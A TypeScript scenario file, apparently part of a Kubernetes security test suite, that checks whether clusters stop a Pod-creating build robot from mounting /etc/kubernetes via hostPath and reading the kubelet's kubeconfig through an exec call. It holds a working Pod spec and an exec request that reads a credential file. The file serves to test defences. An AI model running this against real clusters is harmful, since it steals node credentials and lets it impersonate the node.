/**
 * a robot that may create Pods  --Pod with a hostPath volume-->  worker-2  -->  its kubelet's credential  -->  kube-apiserver
 */
import { secretByApi } from '../../lib/attacker/reach-goal.ts'
import { podOn } from '../../lib/scenario/footholds.ts'
import { letRobotBuild, ROBOTS_NAMESPACE } from '../../lib/scenario/robot.ts'
import { scenario, type Expectation, type Staged } from '../../lib/scenario/scenario.ts'

const NAMESPACE = ROBOTS_NAMESPACE
const PODS = `/api/v1/namespaces/${NAMESPACE}/pods`

const REFUSED: Expectation = { kind: 'stopped', by: 'kube-apiserver', layer: 'admission', code: 'Forbidden' }

const prepared = new WeakSet<Staged>()

function podOf(name: string, nodeName: string): object {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace: NAMESPACE },
    spec: {
      nodeName,
      containers: [
        {
          name: 'main',
          image: 'registry.example/tool:1',
          command: ['sleep', 'infinity'],
          volumeMounts: [{ name: 'host', mountPath: '/host', readOnly: true }],
        },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/etc/kubernetes', type: 'Directory' } }],
    },
  }
}

export default scenario({
  title: `Read the node's key from a Pod`,
  story: `A build robot may create Pods in one namespace, and asks for the node's own files in one. The kubelet's credential is among
them, and with it the robot is the node: every defence of the PKI assumes that Pods cannot read the disk.`,
  refs: [
    'kubernetes.io/docs/concepts/security/pod-security-standards/',
    'kube-hunter KHV047',
    'stratus-red-team k8s.privilege-escalation.hostpath-volume',
  ],
  cis: ['5.1.4', '5.2.1', '5.2.12'],
  attack: ['T1610', 'T1611'],
  variants: [
    {
      id: 'a',
      title: `a hostPath volume over the kubelet's kubeconfig`,
      foothold: podOn('worker-2'),
      goal: { read: 'secret', node: 'worker-2' },
      expect: {
        open: { notApplicable: 'a kubelet of v1.19 over plain HTTP has no credential, and nobody needs one' },
        encrypted: { kind: 'through' },
        kubeadm: { kind: 'through' },
        hardened: REFUSED,
        'zero-trust': REFUSED,
      },
      twin: { through: { restore: 'pod-security' }, stopped: { weaken: 'pod-security' } },
    },
  ],
  async meanwhile(operator, goal) {
    if (prepared.has(goal)) return operator.waitForPod(NAMESPACE, `tool-of-${goal.pod}`)
    prepared.add(goal)
    await letRobotBuild(operator, goal.namespace)
  },
  async attempt(world) {
    await world.meanwhile()
    const name = `tool-of-${world.goal.pod}`
    const made = await world.api({ path: PODS, body: podOf(name, world.goal.node) })
    if (made.status !== 201) return [made.body]
    await world.meanwhile()
    const command = 'command=cat&command=/host/kubelet.conf&container=main&stdout=true&stderr=true'
    const { stdout } = await world.exec(world.network.apiserver, { path: `${PODS}/${name}/exec?${command}` })
    const loot = stdout === '' ? [] : await secretByApi(world, { with: stdout })
    await world.api({ method: 'DELETE', path: `${PODS}/${name}` })
    return loot
  },
})
